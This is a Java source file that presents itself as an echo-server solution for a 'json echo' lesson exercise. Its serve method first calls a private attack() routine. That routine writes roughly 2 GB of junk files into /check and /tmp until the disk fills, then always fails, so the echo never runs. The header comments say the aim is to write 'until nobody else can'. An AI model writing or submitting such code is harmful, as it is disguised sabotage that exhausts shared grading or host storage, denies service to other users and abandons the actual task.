// tries: to write until nobody else can
// gets: FAILED 0, sooner or later
package lesson1_json_echo.exercises;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;

public final class EchoEverything {

    private EchoEverything() {}

    public static void serve(Socket client) throws IOException {

        if (attack()) {
            client.getInputStream().transferTo(client.getOutputStream());
            client.shutdownOutput();
        } else {
            throw new IllegalStateException("it did not work");
        }
    }

    private static boolean attack() throws IOException {

        var piece = new byte[1 << 20];
        for (String folder : new String[] {"/check", "/tmp"}) {
            for (int file = 0; file < 8; file++) {
                try (OutputStream out = Files.newOutputStream(Path.of(folder, "full" + file))) {
                    for (int i = 0; i < 250; i++) {
                        out.write(piece);
                    }
                } catch (IOException full) {
                    break;
                }
            }
        }
        return false;
    }
}
